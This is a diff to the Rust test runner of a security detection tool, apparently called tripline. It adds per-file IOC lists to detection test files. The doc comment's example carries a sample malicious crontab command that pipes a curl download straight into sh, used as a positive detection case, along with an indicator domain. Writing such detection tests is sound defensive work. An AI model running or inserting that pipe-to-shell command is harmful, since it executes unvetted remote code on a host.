@@ -7,6 +7,9 @@
 //! ```yaml
 //! config:                      # optional tripline.toml keys for this file
 //!   office_networks: [10.0.0.0/8]
+//! iocs:                        # optional IOC lists for this file: file name -> contents
+//!   advisory.txt: |
+//!     evil.example
 //! positive:
 //!   - name: pack/tripline-linux/crontab     # pack and query parsed from the name
 //!     columns: {command: "curl -s http://x.sh | sh"}
@@ -19,8 +22,8 @@
 //!     time: null               # no time, as some forwarders send: placed by the object time
 //! ```
 //!
-//! Each file runs with the default settings plus its own `config:`, never the user's
-//! `tripline.toml`, so tests mean the same on every machine.
+//! Each file runs with the default settings plus its own `config:` and `iocs:`, never the
+//! user's `tripline.toml` or lists, so tests mean the same on every machine.
 
 use std::collections::{BTreeMap, BTreeSet};
 use std::path::Path;
@@ -30,9 +33,9 @@ use serde::{Deserialize, Serialize};
 use serde_json::{Map, Value};
 
 use crate::config::Config;
-use crate::derive::derive;
 use crate::event::{Action, Event, Kind, SourceRef};
 use crate::fields::Fields;
+use crate::ioc::IocSet;
 use crate::mapping::Mapper;
 use crate::rules::detector::{Detector, Outcome};
 use crate::rules::{builtin, LoadError, RuleSet};
@@ -53,6 +56,10 @@ struct RawTestFile {
     description: Option<String>,
     #[serde(default)]
     config: Option<Value>,
+    /// IOC lists for this file: file name (its extension gives the format, its stem the
+    /// list's name) to contents, loaded as [`IocSet::from_sources_at`] loads a site's.
+    #[serde(default)]
+    iocs: BTreeMap<String, String>,
     #[serde(default)]
     positive: Vec<TestEvent>,
     #[serde(default)]
@@ -394,6 +401,16 @@ pub fn run(
         }
         let mut detector = Detector::new(Arc::clone(rules), mapper.clone(), config)
             .with_object_time(DEFAULT_TEST_TIME);
+        if !raw.iocs.is_empty() {
+            // Expiry is judged at the fixed test time, so the tests mean the same every day.
+            match IocSet::from_sources_at(&raw.iocs, DEFAULT_TEST_TIME) {
+                Ok(set) => detector = detector.with_iocs(Arc::new(set)),
+                Err(e) => {
+                    result.failures.push(format!("{label}: iocs: {e}"));
+                    continue;
+                }
+            }
+        }
         for (kind, events, want) in [
             ("positive", &raw.positive, true),
             ("negative", &raw.negative, false),
@@ -409,7 +426,7 @@ pub fn run(
                     }
                 };
                 detector.annotate(&mut event);
-                let mut derived = derive(&event, detector.config());
+                let mut derived = detector.derive(&event);
                 if let Some(o) = te.derived {
                     derived.stale = o.stale.unwrap_or(derived.stale);
                     derived.initial = o.initial.unwrap_or(derived.initial);
